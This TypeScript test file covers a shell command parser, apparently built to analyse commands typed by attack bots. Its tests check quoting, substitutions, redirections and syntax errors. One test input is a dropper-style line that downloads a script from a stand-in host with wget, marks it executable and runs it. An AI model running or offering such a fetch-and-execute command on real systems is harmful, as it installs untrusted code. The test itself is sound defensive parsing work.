import { test } from 'node:test';
import assert from 'node:assert/strict';
import type { Command, List, Word } from './ast.js';
import { parseCommandLine, ShellSyntaxError } from './parse.js';

/** A compact rendering of a word: quoted text in [], params as $name, substitutions as $(...). */
function w(word: Word): string {
  return word.parts
    .map((p) => (p.kind === 'text' ? (p.quoted ? `[${p.value}]` : p.value) : p.kind === 'param' ? `$${p.name}` : `$(${show(p.list)})`))
    .join('');
}

function cmd(c: Command): string {
  const r = c.redirects.map((x) => `${x.fd}${x.op}${w(x.target)}`);
  if (c.kind !== 'simple') return [`${c.kind === 'subshell' ? '(' : '{'}${show(c.list)}${c.kind === 'subshell' ? ')' : '}'}`, ...r].join(' ');
  const a = c.assignments.map((x) => `${x.name}=${w(x.value)}`);
  return [...a, ...c.words.map(w), ...r].join(' ');
}

function show(list: List): string {
  return list.items
    .map((ao) => {
      const pipe = (p: { commands: Command[]; negated: boolean }) => (p.negated ? '! ' : '') + p.commands.map(cmd).join(' | ');
      return [pipe(ao.first), ...ao.rest.map((r) => `${r.op} ${pipe(r.pipeline)}`)].join(' ') + (ao.background ? ' &' : '');
    })
    .join(' ; ');
}

const p = (s: string): string => show(parseCommandLine(s));

test('lists, and-or chains and pipelines as bots write them', () => {
  assert.equal(p('cd /tmp || cd /var/run || cd /mnt; wget http://x/a.sh; chmod +x a.sh; ./a.sh'), 'cd /tmp || cd /var/run || cd /mnt ; wget http://x/a.sh ; chmod +x a.sh ; ./a.sh');
  assert.equal(p('cat /proc/cpuinfo | grep name | wc -l'), 'cat /proc/cpuinfo | grep name | wc -l');
  assert.equal(p('a && b || c'), 'a && b || c');
  assert.equal(p('sleep 10 & echo x'), 'sleep 10 & ; echo x');
  assert.equal(p('! true'), '! true');
  assert.equal(p('a\nb\n'), 'a ; b');
  assert.equal(p('   # only a comment'), '');
});

test('quotes, escapes and ANSI-C strings', () => {
  assert.equal(p(`echo 'a b' "c $HOME d" e\\ f`), 'echo [a b] [c ]$HOME[ d] e[ ]f');
  assert.equal(p(`echo "a\\"b" 'it''s' ""`), 'echo [a"b] [it][s] []');
  assert.equal(p(`echo $'\\x41\\n\\101'`), 'echo [A\n' + 'A]');
  assert.equal(p('echo "$"'), 'echo [$]');
});

test('variables, assignments and substitutions', () => {
  assert.equal(p('X=1 Y="a b" env'), 'X=1 Y=[a b] env');
  assert.equal(p('A=5'), 'A=5');
  assert.equal(p('echo ${PATH} $? $1 $$'), 'echo $PATH $? $1 $$');
  assert.equal(p('echo $(uname -m) `whoami`'), 'echo $(uname -m) $(whoami)');
  assert.equal(p('echo "$(echo "nested $(id -u)")"'), 'echo $(echo $(id -u))'.replace('$(echo $(id -u))', '$(echo [nested ]$(id -u))'));
  assert.equal(p('echo $((1+2))'), 'echo [$((1+2))]');
});

test('redirections', () => {
  assert.equal(p('echo x > /tmp/f 2>&1'), 'echo x 1>/tmp/f 2>&1');
  assert.equal(p('echo x >> f 2>/dev/null < in'), 'echo x 1>>f 2>/dev/null 0<in');
  assert.equal(p('cmd &>/dev/null'), 'cmd -1>/dev/null');
  assert.equal(p('>f'), '1>f');
});

test('subshells and groups', () => {
  assert.equal(p('(cd /tmp && ls) ; { echo a; echo b; } > out'), '(cd /tmp && ls) ; {echo a ; echo b} 1>out');
});

test("syntax errors carry bash's message; unterminated input is flagged incomplete", () => {
  const err = (s: string): ShellSyntaxError => {
    try {
      parseCommandLine(s);
    } catch (e) {
      if (e instanceof ShellSyntaxError) return e;
      throw e;
    }
    throw new Error(`no error for ${s}`);
  };
  assert.equal(err('echo a ;; b').message, "syntax error near unexpected token `;;'");
  assert.equal(err('| x').message, "syntax error near unexpected token `|'");
  assert.equal(err('echo >').message, "syntax error near unexpected token `newline'");
  assert.equal(err('echo "abc').incomplete, true);
  assert.equal(err("echo 'abc").incomplete, true);
  assert.equal(err('echo $(ls').incomplete, true);
  assert.match(err('echo ${a b}').message, /bad substitution/);
});

test('pathological nesting is refused, not a stack overflow', () => {
  assert.throws(() => parseCommandLine('echo ' + '$('.repeat(200) + ')'.repeat(200)), ShellSyntaxError);
});
